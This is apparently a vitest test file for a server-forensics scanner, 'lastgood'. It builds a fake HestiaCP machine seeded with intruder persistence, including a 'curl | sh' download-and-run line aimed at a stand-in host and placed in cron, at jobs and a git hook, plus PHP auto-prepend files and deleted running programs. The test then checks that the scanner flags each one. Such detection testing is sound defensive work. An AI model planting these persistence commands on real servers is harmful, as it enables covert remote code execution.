import { chownSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { tarOfFiles } from '../support/backup-fixtures/plain.ts';
import { runLastgood } from '../support/run-lastgood.ts';
import { temporaryFolder } from '../support/temporary-folder.ts';

/** Inert: nothing here is run, and the hosts do not exist. */
const DOWNLOAD = 'curl -s http://x.invalid/a | sh';
const ZONE = '$TTL 60\n@ IN NS ns1.host.test.\n@ IN A 192.0.2.10\n';

interface Told {
  readonly complete: boolean;
  readonly findings: readonly { readonly rule: string; readonly severity: string; readonly path: string | null }[];
  readonly issues: readonly { readonly reason: string; readonly detail: string }[];
  readonly backups: readonly {
    readonly verdict: string;
    readonly reason: string;
    readonly findings: readonly { readonly rule: string }[];
  }[];
}

/** A server of HestiaCP, copied below a folder: an intruder stayed at each place, a neighbour and honest use beside it. */
function server(): string {
  const root = temporaryFolder();
  const hestia = 'usr/local/hestia/data';
  const files: Readonly<Record<string, string>> = {
    'etc/passwd':
      'root:x:0:0::/root:/bin/sh\nbob:x:1001:1001::/home/bob:/bin/sh\nalice:x:1002:1002::/home/alice:/bin/sh\n',
    [`${hestia}/users/bob/web.conf`]:
      "DOMAIN='bob.test' IP='' CUSTOM_DOCROOT='' ALIAS='' BACKEND='PHP-8_2' SUSPENDED='no' FTP_USER='bob_h' FTP_PATH=''\n",
    [`${hestia}/users/bob/cron.conf`]: `JOB='1' MIN='5' HOUR='*' DAY='*' MONTH='*' WDAY='*' CMD='${DOWNLOAD}'\n`,
    [`${hestia}/users/bob/mail/bob.test.conf`]: "ACCOUNT='info' ALIAS='' FWD='somebody@gmail.com' FWD_ONLY=''\n",
    [`${hestia}/access-keys/AAAA`]: "SECRET_ACCESS_KEY='geheim'\nUSER='bob'\nCOMMENT='sync'\nDATE='2026-11-20'\n",
    'home/bob/web/bob.test/public_html/index.html': 'Hello',
    'home/bob/web/bob.test/public_html/foreign.txt': 'x',
    'home/bob/.pm2/dump.pm2': '[{"pm_exec_path":"/dev/shm/x.js"}]',
    'home/bob/repo.git/hooks/post-receive': `#!/bin/sh\n${DOWNLOAD}\n`,
    'home/bob/conf/dns/bob.test.db': `${ZONE}login IN A 203.0.113.7\n`,
    'var/spool/cron/crontabs/bob': `* * * * * ${DOWNLOAD}\n`,
    'var/spool/cron/atjobs/a0000301c2f4a8': `#!/bin/sh\n${DOWNLOAD}\n`,
    'var/spool/cron/atjobs/a0000401c2f4a9': `#!/bin/sh\n${DOWNLOAD}\n`,
    'etc/php/8.2/fpm/pool.d/bob.test.conf':
      '[bob.test]\nuser = bob\nphp_admin_value[auto_prepend_file] = /home/bob/.x/a.php\n',
    'etc/php/8.2/fpm/pool.d/alice.conf': '[alice]\nuser = alice\nphp_admin_value[auto_prepend_file] = /tmp/a.php\n',
    'proc/4711/cmdline': 'httpd\0',
    'proc/4712/cmdline': 'httpd\0',
  };
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(root, path)), { recursive: true });
    writeFileSync(join(root, path), text);
  }
  for (const [pid, exe] of [
    ['4711', '/home/bob/x (deleted)'],
    ['4712', '/home/alice/x (deleted)'],
  ] as const) {
    symlinkSync(exe, join(root, `proc/${pid}/exe`));
  }
  const owned: Readonly<Record<string, number>> = {
    'proc/4711': 1001,
    'proc/4712': 1002,
    'var/spool/cron/atjobs/a0000301c2f4a8': 1001,
    'var/spool/cron/atjobs/a0000401c2f4a9': 1002,
    'home/bob/web/bob.test/public_html/foreign.txt': 1002,
  };
  for (const [path, uid] of Object.entries(owned)) chownSync(join(root, path), uid, uid);
  return root;
}

async function scan(root: string, command: string, ...options: string[]): Promise<Told> {
  const { stdout, stderr } = await runLastgood([command, 'bob', '--root', root, '--format', 'json', ...options]);
  expect(stderr).not.toMatch(/bug in lastgood|\n\s+at /);
  if (stdout === '') throw new Error(stderr);
  return JSON.parse(stdout) as Told;
}

// Owners are part of what is looked at, and only root may give files away.
describe.skipIf(process.getuid?.() !== 0)('an account that an intruder can come back to', () => {
  const EXPECTED = [
    'at.download-run',
    'cron.download-run',
    'ftp.login',
    'mail.sends-copy',
    'owner.other-account',
    'panel-task.download-run',
    'panel.token',
    'process-manager.temporary-program',
    'process.deleted-program',
    'server.auto-prepend',
    'shell.download-run',
  ];

  it('has every way back told, nothing of the neighbour, and the same again from kept verdicts', async () => {
    const root = server();
    for (const _ of [1, 2]) {
      const told = await scan(root, 'scan');
      expect([...new Set(told.findings.map(({ rule }) => rule))].sort()).toEqual(EXPECTED);
      expect(JSON.stringify(told)).not.toMatch(/geheim|\/home\/alice/);
      expect(told.findings.filter(({ rule }) => rule === 'at.download-run')).toHaveLength(1);
    }
  });

  it('has its zone compared with the backup’s, which knows nothing of the live machine', async () => {
    const root = server();
    const backup = join(root, 'backup/bob.2026-11-18_02-30-00.tar');
    mkdirSync(dirname(backup), { recursive: true });
    writeFileSync(
      backup,
      tarOfFiles({
        './hestia/user.conf': '',
        './dns/bob.test/conf/bob.test.db': ZONE,
        './web/bob.test/domain_data.tar.gz': gzipSync(tarOfFiles({ './public_html/index.html': 'Hello' })),
      }),
    );
    const told = await scan(root, 'backups');
    expect(
      told.findings.filter(({ rule }) => rule.startsWith('dns.')).map(({ rule, path }) => `${rule} ${path}`),
    ).toEqual(['dns.address /home/bob/conf/dns/bob.test.db']);
    expect(told.backups.map(({ verdict, reason, findings }) => [verdict, reason, findings.length])).toEqual([
      ['clean', 'no evidence found on any site', 0],
    ]);
  });
});
